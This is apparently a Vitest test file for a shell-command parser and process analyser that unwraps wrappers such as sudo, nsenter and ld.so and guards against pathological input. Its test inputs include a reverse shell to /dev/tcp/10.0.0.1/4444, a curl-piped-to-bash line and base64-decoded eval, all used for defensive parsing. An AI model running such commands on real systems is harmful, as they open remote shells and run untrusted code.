import { describe, expect, test } from 'vitest';
import { analyseCommand, interpreterOf } from '../../../shared/unix/command-analysis.ts';
import { shellCommands, shellWords } from '../../../shared/unix/shell-words.ts';

describe('shellWords', () => {
  test.each([
    [`a 'b c' "d e" f\\ g`, ['a', 'b c', 'd e', 'f g']],
    ['a # comment', ['a']],
    ['a#b', ['a#b']],
    ['echo x > /tmp/y 2>&1 z', ['echo', 'x', 'z']],
    [`"a \\"b\\" \\$c"`, ['a "b" $c']],
    ['a\\\nb', ['ab']],
    [`'unclosed`, ['unclosed']],
    [`''`, ['']],
  ])('%s', (text, words) => {
    expect(shellWords(text)).toEqual(words);
  });
});

describe('shellCommands', () => {
  test.each([
    ['curl -s http://x/y | bash', [['curl', '-s', 'http://x/y'], ['bash']]],
    ['a && b || c; d & e', [['a'], ['b'], ['c'], ['d'], ['e']]],
    ['X=1 Y=2 run it', [['run', 'it']]],
    ['if [ -f x ]; then run; fi', [['[', '-f', 'x', ']'], ['run']]],
    [
      'eval $(echo aGk= | base64 -d)',
      [
        ['eval', '$(echo aGk= | base64 -d)'],
        ['echo', 'aGk='],
        ['base64', '-d'],
      ],
    ],
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', [['bash', '-i']]],
    ['echo "$(id)"', [['echo', '$(id)'], ['id']]],
  ])('%s', (code, commands) => {
    expect(shellCommands(code)).toEqual(commands);
  });

  test('of a quarter of a million substitutions some are followed', () => {
    const commands = shellCommands(`echo "${'$(a)'.repeat(250_000)}"`);
    expect(commands.length).toBeGreaterThan(1);
    expect(commands.length).toBeLessThan(100);
  });

  test('hostile text ends in bounded time', () => {
    for (const text of [
      '$('.repeat(50_000),
      '`'.repeat(99_999),
      '"$('.repeat(30_000),
      '('.repeat(1e6),
      '\\'.repeat(1e6),
    ]) {
      const start = performance.now();
      shellCommands(text);
      expect(performance.now() - start).toBeLessThan(3_000);
    }
  });
});

describe('analyseCommand', () => {
  test.each([
    [['/usr/sbin/sshd', '-D'], ['/usr/sbin/sshd'], [], []],
    [['/bin/sh', '-c', 'curl x | sh'], ['/bin/sh', 'curl', 'sh'], [], ['curl x | sh']],
    [['/bin/bash', '-lc', '/opt/run.sh'], ['/bin/bash', '/opt/run.sh'], [], ['/opt/run.sh']],
    [
      ['/usr/bin/env', 'A=1', 'nohup', 'python3', '/opt/x.py'],
      ['/usr/bin/env', 'nohup', 'python3'],
      ['/opt/x.py'],
      [],
    ],
    [['python3.11', '-u', '-c', 'import os'], ['python3.11'], [], ['import os']],
    [['perl', '-MIO::Socket', '-e', 'x', '-e', 'y'], ['perl'], [], ['x', 'y']],
    [['timeout', '-s', 'KILL', '5', '/x'], ['timeout', '/x'], [], []],
    [['java', '-Xmx1g', '-cp', 'a.jar', 'Main'], ['java'], [], []],
    [['java', '-jar', '/opt/a.jar'], ['java'], ['/opt/a.jar'], []],
    [['su', '-', 'alice', '-c', 'run'], ['su', 'run'], [], ['run']],
    [['sudo', '-u', 'bob', 'VAR=1', '/x', 'y'], ['sudo', '/x'], [], []],
    [['start-stop-daemon', '--start', '--exec', '/x', '--', '-d'], ['start-stop-daemon', '/x'], [], []],
    [['osascript', '-e', 'do shell script "id"'], ['osascript'], [], ['do shell script "id"']],
    [['sh', '-x', '/etc/init.d/y', 'start'], ['sh'], ['/etc/init.d/y'], []],
    [['env', '-S', 'python3 /a.py'], ['env', 'python3'], ['/a.py'], []],
    [['systemd-run', '-p', 'User=x', '/y'], ['systemd-run', '/y'], [], []],
    [
      ['/lib64/ld-linux-x86-64.so.2', '--library-path', '/l', '/opt/x', '-d'],
      ['/lib64/ld-linux-x86-64.so.2', '/opt/x'],
      [],
      [],
    ],
    [['/lib/ld-musl-x86_64.so.1', '/opt/x'], ['/lib/ld-musl-x86_64.so.1', '/opt/x'], [], []],
    [['xargs', '-n', '1', '-I', '{}', '/opt/x'], ['xargs', '/opt/x'], [], []],
    [['chroot', '--userspec=a', '/srv', '/opt/x'], ['chroot', '/opt/x'], [], []],
    [
      ['nsenter', '--target', '1', '-m', '-p', '--', 'sh', '-c', '/opt/x'],
      ['nsenter', 'sh', '/opt/x'],
      [],
      ['/opt/x'],
    ],
    [['setpriv', '--reuid', '1000', '/opt/x'], ['setpriv', '/opt/x'], [], []],
    [['setsid', '-f', 'nohup', '/opt/x'], ['setsid', 'nohup', '/opt/x'], [], []],
    [['ip', 'netns', 'exec', 'blue', '/opt/x'], ['ip', '/opt/x'], [], []],
    [['screen', '-dmS', 'n', '/opt/x'], ['screen', '/opt/x'], [], []],
    [['tmux', 'new-session', '-d', '-s', 'n', '/opt/x -d'], ['tmux', '/opt/x'], [], ['/opt/x -d']],
    [['at', '-f', '/opt/x', 'now'], ['at'], ['/opt/x'], []],
    [['sh', '-c', '. /opt/x'], ['sh'], ['/opt/x'], ['. /opt/x']],
    [['bash', '-c', 'source /opt/x; y'], ['bash', 'y'], ['/opt/x'], ['source /opt/x; y']],
    [['ip', 'link', 'set', 'eth0', 'up'], ['ip'], [], []],
  ] as const)('%j', (argv, programs, scripts, code) => {
    const found = analyseCommand(argv);
    expect(found.programs).toEqual(programs);
    expect(found.scripts).toEqual(scripts);
    expect(found.inlineCode.map((one) => one.code)).toEqual(code);
  });

  test('commands within commands are followed to a bound', () => {
    const argv = Array.from({ length: 500 }, () => 'env');
    expect(analyseCommand(argv).programs.length).toBeLessThanOrEqual(64);
  });

  test('of the names of modules as many are taken as anybody writes', () => {
    const names = Array.from({ length: 500_000 }, (_, index) => `m${index}`);
    for (const argv of [
      ['modprobe', '-a', ...names],
      ['modprobe', '-a', '--', ...names],
    ]) {
      expect(analyseCommand(argv).modules[0]?.modules).toEqual(names.slice(0, 64));
    }
  });

  test('interpreters by name', () => {
    expect(interpreterOf('/usr/bin/python3.11')).toBe('python');
    expect(interpreterOf('/bin/dash')).toBe('sh');
    expect(interpreterOf('nodejs')).toBe('node');
    expect(interpreterOf('/usr/sbin/nginx')).toBeNull();
  });
});
